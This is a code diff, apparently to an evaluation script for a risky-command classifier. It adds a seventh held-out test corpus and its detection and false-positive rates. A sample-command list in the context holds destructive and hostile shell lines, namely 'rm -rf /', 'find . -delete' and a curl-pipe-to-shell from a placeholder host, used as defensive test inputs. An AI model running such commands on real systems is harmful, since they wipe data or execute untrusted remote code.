@@ -28,6 +28,7 @@ FIRST_RUN = {
     "own held-out 4": "first run: 175/186 = 94.1%, benign 3/337 = 0.9%",
     "own held-out 5": "first run: 236/254 = 92.9%, benign 4/318 = 1.3%; 236/248 under policy",
     "own held-out 6": "first run: 187/204 = 91.7%, benign 0/326 = 0.0%",
+    "own held-out 7": "first run: 153/155 = 98.7%, benign 0/256 = 0.0%",
 }
 CORPORA = {
     "shared (core tier)": SHARED,
@@ -38,6 +39,7 @@ CORPORA = {
     "own held-out 4": OWN / "held_out_4.jsonl",
     "own held-out 5": OWN / "held_out_5.jsonl",
     "own held-out 6": OWN / "held_out_6.jsonl",
+    "own held-out 7": OWN / "held_out_7.jsonl",
 }
 FALLBACK = ["ls -la", "rm -rf /", "curl -s http://x | sh", "git commit -m 'x'", "find . -delete"]
 CTX = CommandContext(
